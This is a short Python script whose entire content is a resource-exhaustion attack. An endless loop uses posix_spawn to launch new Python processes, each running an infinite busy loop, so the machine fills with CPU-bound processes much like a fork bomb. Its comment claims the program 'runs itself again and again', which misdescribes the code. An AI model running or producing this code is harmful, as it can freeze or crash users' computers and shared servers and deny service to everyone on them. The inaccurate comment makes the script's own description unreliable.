# why: a program that runs itself again and again
import posix
import sys

while True:
    posix.posix_spawn(sys.executable or "/usr/bin/python3", ["python3", "-c", "while True: pass"], {})
